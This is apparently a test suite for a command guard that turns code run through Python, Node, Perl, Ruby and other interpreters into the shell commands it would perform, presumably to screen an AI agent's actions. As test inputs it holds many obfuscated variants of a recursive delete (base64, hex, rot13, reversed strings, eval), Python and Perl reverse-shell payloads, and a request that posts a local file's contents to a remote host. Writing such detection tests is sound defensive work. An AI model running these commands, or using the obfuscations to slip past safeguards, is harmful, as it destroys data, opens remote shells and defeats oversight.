"""What Python and other scripts would do is told as commands."""

from __future__ import annotations

import base64
import codecs
import shlex
import warnings

import pytest
from flyball_sdk.guard.shell import UNKNOWN, Command, program

WIPE = "rm -rf /srv/a"
CALL = f"import os; os.system({WIPE!r})"


def commands(text: str) -> list[tuple[str, ...]]:
    return [(command.name, *command.words) for command in program(text).commands]


def python(code: str) -> list[tuple[str, ...]]:
    """The commands of a text that runs Python code, without the interpreter itself."""
    return commands("python3 -c " + shlex.quote(code))[1:]


PYTHON = [
    CALL, "import os as o; o.system('rm -rf /srv/a')", "from os import system as s; s('rm -rf /srv/a')",
    "__import__('os').system('rm -rf /srv/a')", "import os; getattr(os, 'sys' + 'tem')('rm -rf /srv/a')",
    "import importlib; importlib.import_module('os').system('rm -rf /srv/a')", "from os import *; system('rm -rf /srv/a')",
    "import subprocess; subprocess.run(['rm', '-rf', '/srv/a'])", "import subprocess as s; s.call('rm -rf /srv/a', shell=True)",
    "from subprocess import Popen, PIPE; Popen(args=['rm', '-rf', '/srv/a'], stdout=PIPE)",
    "import subprocess; subprocess.run('sh', input=b'rm -rf /srv/a')", "import subprocess; subprocess.getoutput('rm -rf /srv/a')",
    "import shutil; shutil.rmtree('/srv/a')", "from shutil import rmtree; rmtree('/srv/' + 'a')",
    "import shutil; p = '/srv'; shutil.rmtree(f'{p}/a')", "import os; os.system(''.join(['rm', ' -rf ', '/srv/a']))",
    "import os; os.system('a/vrs/ fr- mr'[::-1])", "import os; os.system('rm -rf %s' % '/srv/a')",
    "import os; os.system('{} -rf {}'.format('rm', '/srv/a'))", "import os; os.execvp('rm', ['rm', '-rf', '/srv/a'])",
    "import os; os.execlp('rm', 'rm', '-rf', '/srv/a')", "import os; os.spawnvp(os.P_WAIT, 'rm', ['rm', '-rf', '/srv/a'])",
    "import pty; pty.spawn(['rm', '-rf', '/srv/a'])", "import os; [os.system(c) for c in ['rm -rf /srv/a']]",
    "import os; f = lambda: os.system('rm -rf /srv/a'); f()", "import os; c = 'rm'; c += ' -rf /srv/a'; os.popen(c)",
    "from pathlib import Path; import shutil; shutil.rmtree(Path('/srv') / 'a')", "import os; eval(\"os.system('rm -rf /srv/a')\")",
    "import os\ndef f(c):\n    os.system(c)\nf('rm -rf /srv/a')", "import os\nclass A:\n    def f(self):\n        os.system('rm -rf /srv/a')",
    "import os\nif True:\n    try:\n        os.system('rm -rf /srv/a')\n    finally:\n        pass", "import os; s = os.system; s('rm -rf /srv/a')",
    "import asyncio; asyncio.run(asyncio.create_subprocess_shell('rm -rf /srv/a'))",
    f"exec(__import__('base64').b64decode('{base64.b64encode(CALL.encode()).decode()}'))",
    f"exec(bytes.fromhex('{CALL.encode().hex()}').decode())", f"exec(''.join(chr(c) for c in {list(CALL.encode())}))",
    f"exec(''.join(map(chr, {list(CALL.encode())})))", f"import codecs; exec(codecs.decode({codecs.encode(CALL, 'rot13')!r}, 'rot13'))",
    f"exec(compile({CALL!r}, 'x', 'exec'))", f"import os; os.system(bytes({list(WIPE.encode())}).decode())",
    "import sys, os\nos.system(' '.join(['rm', '-rf', '/srv/a']))", "import os; a, b = 'rm -rf', '/srv/a'; os.system(a + ' ' + b)",
]  # fmt: skip


@pytest.mark.parametrize("code", PYTHON)
def test_python_code_is_read(code: str) -> None:
    assert ("rm", "-rf", "/srv/a") in python(code)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import os; os.remove('/x')", ("rm", "/x")),
        ("import os; os.rmdir('/x')", ("rmdir", "/x")),
        ("from pathlib import Path; Path('/x').unlink()", ("rm", "/x")),
        ("from pathlib import Path\nfor p in Path('/x').glob('*.c'):\n    p.unlink()", ("rm", "/x/*.c")),
        ("import os, glob\nfor p in glob.glob('/x/*'):\n    os.remove(p)", ("rm", "/x/*")),
        ("import os\nfor d, _, fs in os.walk('/x'):\n    for f in fs:\n        os.remove(os.path.join(d, f))", ("rm", f"/x/{UNKNOWN}")),
        ("import os; os.chmod('/x', 0o777)", ("chmod", "777", "/x")),
        ("import shutil; shutil.move('/x', '/y')", ("mv", "/x", "/y")),
        ("import shutil; shutil.copytree('/x', '/y')", ("cp", "-r", "/x", "/y")),
        ("print(open('/x').read())", ("cat", "/x")),
        ("from pathlib import Path; Path('/x').read_text()", ("cat", "/x")),
        ("import requests; requests.get('http://h/')", ("curl", "http://h/")),
        ("import requests; requests.post('http://h/', data='k')", ("curl", "-d", "k", "http://h/")),
        ("import requests; requests.post('http://h/', data=open('/k').read())", ("curl", "-d", "@/k", "http://h/")),
        ("import httpx\nwith httpx.Client() as c:\n    c.put('http://h/', json={'a': 1})", ("curl", "-X", "PUT", "-d", UNKNOWN, "http://h/")),
        ("import urllib.request as u; u.urlopen('http://h/', data=b'k')", ("curl", "-d", "k", "http://h/")),
        ("import urllib.request; urllib.request.urlretrieve('http://h/', '/x')", ("curl", "-o", "/x", "http://h/")),
    ],
)  # fmt: skip
def test_acts_of_python_are_commands(code: str, expected: tuple[str, ...]) -> None:
    assert expected in python(code)


def test_a_file_that_python_writes_is_a_redirect() -> None:
    for code in ("open('/x', 'w').write('a')", "with open('/x', mode='w') as f:\n    f.write('a')"):
        command = program("python3 -c " + shlex.quote(code)).commands[-1]
        assert (command.name, command.redirects[0].path) == ("", "/x")


REVERSE = (
    "import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('h',1))\n"
    "for n in (0,1,2):\n    os.dup2(s.fileno(),n)\npty.spawn('/bin/sh')"
)


def test_a_socket_that_becomes_a_shell_has_a_name() -> None:
    assert ("reverse-shell",) in python(REVERSE)
    perl = 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'
    assert ("reverse-shell",) in commands("perl -e " + shlex.quote(perl))


@pytest.mark.parametrize(
    "text",
    [
        f"python3 <<'E'\n{CALL}\nE", f"python3 - <<E\n{CALL}\nE", f'echo "{CALL}" | python3', f"cat > x.py <<'E'\n{CALL}\nE\npython3 x.py",
        "cat > x.py <<'E'\nimport sys, shutil\nshutil.rmtree(sys.argv[1])\nE\npython3 x.py /srv/a", f'python3.11 -Bc "{CALL}"',
        f"printf '#!/usr/bin/env python3\\nimport os\\nos.system(\"{WIPE}\")\\n' > t; chmod +x t; ./t", f'sudo -u x python -u -c "{CALL}"',
        f'uv run python -c "{CALL}"', f"cat > x.py <<'E'\n{CALL}\nE\nuv run x.py", f'env -i python3 -c "{CALL}"',
        f"node -e \"require('child_process').execSync('{WIPE}')\"", f"node -e \"const {{exec}}=require('child_process'); exec('{WIPE}')\"",
        "node -e \"require('child_process').spawn('rm',['-rf','/srv/a'])\"", "node -e \"require('fs').rmSync('/srv/a',{recursive:true})\"",
        f"node -p \"require('child_process').execSync('{WIPE}')\"", f"node <<'E'\nrequire('child_process').execSync(`{WIPE}`)\nE",
        f"perl -e 'system(\"{WIPE}\")'", f"perl -e '`{WIPE}`'", f"perl -e 'exec \"{WIPE}\"'", f"perl -e 'qx{{{WIPE}}}'",
        "perl -e 'system(\"rm\",\"-rf\",\"/srv/a\")'", "perl -MFile::Path -e 'rmtree(\"/srv/a\")'", f"echo 'system(\"{WIPE}\")' | perl",
        f"ruby -e 'system(\"{WIPE}\")'", f"ruby -e '`{WIPE}`'", f"ruby -e '%x({WIPE})'", f"ruby -e 'exec \"{WIPE}\"'",
        "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/srv/a\")'", f"php -r 'system(\"{WIPE}\");'", f"php -r 'shell_exec(\"{WIPE}\");'",
        f"lua -e 'os.execute(\"{WIPE}\")'", f"cat > x.rb <<'E'\nsystem(\"{WIPE}\")\nE\nruby x.rb", f"Rscript -e 'system(\"{WIPE}\")'",
        f"perl -e 'my $c = \"{WIPE}\"; system($c);'", f"ruby -e 'c = \"{WIPE}\"; system(c)'", f"node -e \"const c='{WIPE}'; require('child_process').execSync(c)\"",
        f"awk 'BEGIN{{c=\"{WIPE}\"; system(c)}}'", "awk 'BEGIN{system(\"rm -rf \" \"/srv/a\")}'", f"osascript -e 'do shell script \"{WIPE}\"'",
    ],
)  # fmt: skip
def test_code_reaches_its_interpreter(text: str) -> None:
    assert ("rm", "-rf", "/srv/a") in commands(text)


def test_unreadable_python_is_opaque_only_where_it_may_act() -> None:
    assert program("python3 -c 'import os; os.system('").opaque
    assert not program("python3 -c 'print(\"a'").opaque
    assert program("python3 -c 'print(\"a'").partial


def test_the_interpreter_is_kept_and_the_way_is_told() -> None:
    outer, inner = program("python3 -c \"import os; os.remove('/x')\"").commands
    assert outer.name == "python3"
    assert inner == Command("rm", ("/x",), inner.span, via=("python3 -c",))


@pytest.mark.parametrize(
    "code",
    ["import os; print(os.environ['HOME'])", "import pty; pty.spawn([])", "import json,sys; print(json.load(sys.stdin))", "print('rm -rf /')",
     "import subprocess\ndef f(cmd):\n    return subprocess.run(cmd, shell=True)", "import pandas as pd; pd.DataFrame().eval('a+b')"],
)  # fmt: skip
def test_harmless_python_is_quiet(code: str) -> None:
    assert python(code) == []
    assert not program("python3 -c " + shlex.quote(code)).opaque


def test_what_is_joined_to_a_literal_is_not_known() -> None:
    assert commands("perl -e 'system(\"rm -rf \" . $x)'")[-1] == ("rm", "-rf", UNKNOWN)
    assert commands("awk '{system(\"rm -rf \" $1)}' f")[-1] == ("rm", "-rf", UNKNOWN)
    assert program("awk '{system($0)}' f").opaque


def test_code_of_an_agent_brings_no_warning_into_the_host() -> None:
    with warnings.catch_warnings(record=True) as told:
        warnings.simplefilter("always")
        program("python3 -c 'x = 1if 2 else \"\\d\"; print(x is 1)'; echo $((1or 2))")
    assert told == []
